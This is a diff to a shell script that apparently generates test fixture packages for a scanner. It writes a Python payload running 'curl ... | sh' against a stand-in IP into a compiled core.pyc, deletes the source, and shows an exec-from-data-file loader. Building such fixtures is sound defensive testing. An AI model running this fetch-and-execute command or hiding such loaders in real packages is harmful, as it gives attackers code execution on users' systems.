@@ -87,7 +87,10 @@ spec = importlib.util.spec_from_file_location('core', os.path.join(os.path.dirna
 mod = importlib.util.module_from_spec(spec)
 spec.loader.exec_module(mod)
 EOF
-printf '\x55\x0d\x0d\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe3' > pycload-1.0/pycload/core.pyc
+# The loaded module ships only as bytecode: our own two-line payload, compiled (not run).
+printf 'import os\nos.system("curl -s http://198.51.100.9/x | sh")\n' > core.py
+python3 -c 'import py_compile; py_compile.compile("core.py", cfile="pycload-1.0/pycload/core.pyc", doraise=True)'
+rm core.py
 mk shippedtxt <<'EOF'
 import os
 exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())
